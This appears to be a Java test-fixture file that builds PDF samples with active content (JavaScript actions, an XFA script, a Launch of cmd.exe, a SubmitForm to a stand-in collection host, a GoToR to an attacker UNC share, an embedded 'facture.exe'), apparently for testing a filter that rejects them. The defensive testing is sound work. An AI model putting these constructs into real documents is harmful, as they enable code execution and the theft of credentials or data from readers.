package org.opengru.documents.corpus;

import static org.opengru.documents.TestFiles.ascii;

import java.util.List;
import org.opengru.documents.TestFiles;
import org.opengru.documents.corpus.PdfForge.Family;

/** The active-content families a PDF reader acts on, each reached only through references. */
final class Families {
    private Families() {}

    static final String JS = "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>";

    static List<Family> hostile() {
        return List.of(
                PdfForge.family("javascript-open-action", " /OpenAction 5 0 R", "", JS),
                PdfForge.family(
                        "javascript-name-tree",
                        " /Names 5 0 R",
                        "",
                        "<< /JavaScript 6 0 R >>",
                        "<< /Names [(init) 7 0 R] >>",
                        JS),
                PdfForge.family(
                        "javascript-link-annotation",
                        "",
                        " /Annots [5 0 R]",
                        "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 6 0 R >>",
                        JS),
                PdfForge.family(
                        "javascript-form-field",
                        " /AcroForm 5 0 R",
                        "",
                        "<< /Fields [6 0 R] >>",
                        "<< /FT /Tx /T (nom) /Rect [0 0 100 20] /AA 7 0 R >>",
                        "<< /K 8 0 R >>",
                        JS),
                PdfForge.family("page-additional-action", "", " /AA 5 0 R", "<< /O 6 0 R >>", JS),
                PdfForge.family(
                        "launch", " /OpenAction 5 0 R", "", "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"),
                PdfForge.family("import-data", " /OpenAction 5 0 R", "", "<< /S /ImportData /F (donnees.fdf) >>"),
                PdfForge.family(
                        "submit-form",
                        " /OpenAction 5 0 R",
                        "",
                        "<< /S /SubmitForm /F << /FS /URL /F (https://collecte.example/) >> >>"),
                PdfForge.family(
                        "goto-remote-unc",
                        " /OpenAction 5 0 R",
                        "",
                        "<< /S /GoToR /F (\\\\\\\\attaquant\\\\partage\\\\a.pdf) /D [0 /Fit] >>"),
                PdfForge.family(
                        "goto-embedded",
                        " /OpenAction 5 0 R",
                        "",
                        "<< /S /GoToE /T << /R /C /N (piece) >> /D [0 /Fit] >>"),
                PdfForge.family(
                        "rich-media",
                        "",
                        " /Annots [5 0 R]",
                        "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent 6 0 R >>",
                        "<< /Assets << /Names [] >> >>"),
                PdfForge.withStream(
                        PdfForge.family(
                                "embedded-file",
                                " /Names 5 0 R",
                                "",
                                "<< /EmbeddedFiles 6 0 R >>",
                                "<< /Names [(facture.exe) 7 0 R] >>",
                                "<< /Type /Filespec /F (facture.exe) /EF << /F 8 0 R >> >>"),
                        8,
                        "/Type /EmbeddedFile",
                        TestFiles.windowsExecutable()),
                PdfForge.withStream(
                        PdfForge.family("xfa-script", " /AcroForm 5 0 R", "", "<< /Fields [] /XFA 6 0 R >>"),
                        6,
                        "",
                        ascii("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform name=\"f\">"
                                + "<event activity=\"initialize\"><script contentType=\"application/x-javascript\">"
                                + "app.alert(1)</script></event></subform></template></xdp:xdp>")));
    }

    /** A document with a web link: URI actions stay allowed. */
    static Family uriLink() {
        return PdfForge.family(
                "uri-link",
                "",
                " /Annots [5 0 R]",
                "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 6 0 R >>",
                "<< /S /URI /URI (https://www.service-public.fr/) >>");
    }

    /** No family at all: the forms themselves must not be refused. */
    static Family none() {
        return PdfForge.family("none", "", "");
    }
}
